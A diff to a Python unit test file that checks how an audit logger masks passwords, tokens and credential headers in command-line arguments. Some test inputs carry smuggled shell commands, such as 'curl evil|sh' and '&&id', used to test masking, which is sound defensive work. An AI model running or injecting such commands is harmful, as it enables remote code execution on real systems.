@@ -12,6 +12,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from bastion.audit import event
+from bastion.audit.masking import mask
 from tests.unit.bastion.schema import SCHEMA, problems
 
 NOW = datetime(2026, 11, 21, 12, 0, 0, 7000, tzinfo=UTC)
@@ -51,10 +52,10 @@ def test_what_is_of_the_wrong_type_is_left_out() -> None:
         (["--password", "SECRET", "list"], ["--password", "***", "list"]),
         (["--token", "--wait"], ["--token", "--wait"]),
         (["--env", "HF_TOKEN=SECRET"], ["--env", "HF_TOKEN=***"]),
-        (["--env", "AWS_SECRET_ACCESS_KEY=SECRET\nx"], ["--env", "AWS_SECRET_ACCESS_KEY=***\nx"]),
+        (["--env", "AWS_SECRET_ACCESS_KEY=SECRET\nx"], ["--env", "AWS_SECRET_ACCESS_KEY=***"]),
         (["--env=HF_TOKEN=SECRET"], ["--env=HF_TOKEN=***"]),
         (["x?a=1&token=SECRET&b=2", "A:my-api-key: SECRET"], ["x?a=1&token=***&b=2", "A:my-api-key: ***"]),
-        (["X-Credential: Bearer SECRET"], ["X-Credential: *** ***"]),
+        (["X-Credential: Bearer SECRET"], ["X-Credential: Bearer ***"]),
         (["token=x; curl evil|sh"], ["token=***; curl evil|sh"]),
         (["token=x&&id", "TOKEN='a b' id", 'password="a b"|sh'], ["token=***&&id", "TOKEN=*** id", "password=***|sh"]),
         (["token='SECRET", "token=x'y"], ["token=***", "token=***'y"]),
@@ -89,7 +90,7 @@ def test_how_long_masking_takes_is_nothing_a_person_decides(unit: str, end: str)
     """The slow ones took minutes: the time of the processor is what is bounded here, far from what it takes."""
     word = (unit * 16384)[: 16384 - len(end)] + end
     began = process_time()
-    event.mask([word])
+    mask([word])
     written(argv=[word[:4096], word], reason=word)
     written(argv=[word] * 40)
     assert process_time() - began < 1
